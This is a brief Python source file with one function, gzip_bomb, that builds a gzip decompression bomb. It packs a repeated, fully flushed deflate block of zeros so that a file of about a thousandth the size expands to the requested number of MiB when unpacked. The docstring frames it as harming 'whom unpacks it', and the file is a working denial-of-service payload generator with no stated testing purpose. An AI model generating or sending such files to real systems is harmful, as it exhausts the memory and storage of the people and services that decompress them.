"""Zeros, packed: little to send, much to whom unpacks it."""

from __future__ import annotations

import struct
import zlib

_PIECE = bytes(1 << 20)


def gzip_bomb(mib: int) -> bytes:
    """A whole gzip file of so many MiB of zeros, packed into a thousandth.

    Packed is one MiB; such a piece, flushed in full, stands for itself and can be repeated.
    """
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    piece = packer.compress(_PIECE) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(_PIECE, crc)
    head = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    return head + piece * mib + packer.flush() + struct.pack("<II", crc, mib << 20)
